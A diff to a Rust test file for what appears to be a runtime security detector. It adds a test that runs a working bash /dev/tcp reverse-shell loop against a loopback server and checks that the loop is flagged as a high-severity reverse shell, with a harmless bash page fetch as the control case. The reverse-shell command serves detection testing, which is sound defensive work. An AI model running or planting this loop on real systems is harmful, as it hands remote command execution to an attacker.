@@ -3245,6 +3245,52 @@ fn a_shell_fed_by_a_network_relay_is_a_reverse_shell() {
     }
 }
 
+/// bash's `/dev/tcp` reverse shell as a loop: no shell is exec'd on the socket, each command the
+/// peer sends runs with its output put on the socket by the shell's fork. Benign twin: a page
+/// fetched with bash (the socket on `cat`'s standard input only).
+#[test]
+fn commands_a_shell_loop_runs_for_a_network_peer_are_a_reverse_shell() {
+    if !privileged("commands_a_shell_loop_runs_for_a_network_peer_are_a_reverse_shell") {
+        return;
+    }
+    let port = serve_text(b"id\n");
+    let scratch = Scratch::new("devtcploop");
+    let bash = |name: &str, body: String| {
+        let file = scratch.path(name);
+        std::fs::write(&file, body).expect("script");
+        detect(run(Command::new("/bin/bash").arg(&file)))
+    };
+    let found = bash(
+        "loop.sh",
+        format!(
+            "exec 5<>/dev/tcp/127.0.0.1/{port}\ncat <&5 | while read line; do $line 2>&5 >&5; done\n"
+        ),
+    );
+    let f = of(&found, "behaviour-reverse-shell-command-socket");
+    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
+    assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell");
+    assert_eq!(f[0].severity_label, SeverityLabel::High);
+    assert_eq!(
+        f[0].context.additional.get("stdioPeer").map(String::as_str),
+        Some(format!("127.0.0.1:{port}").as_str())
+    );
+    let found = bash(
+        "fetch.sh",
+        format!(
+            "exec 3<>/dev/tcp/127.0.0.1/{port}\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3 > {}\n",
+            scratch.path("page")
+        ),
+    );
+    assert!(
+        of(&found, "behaviour-reverse-shell-command-socket").is_empty()
+            && found
+                .iter()
+                .all(|f| f.finding_type != "Execution:Runtime/ReverseShell"),
+        "a page fetched with bash: {:?}",
+        kinds(&found)
+    );
+}
+
 /// `openssl s_client` as the relay of a FIFO reverse shell, against a loopback `openssl
 /// s_server` that sends `exit`; `openssl s_client` alone and a shell's output piped into it
 /// raise nothing.
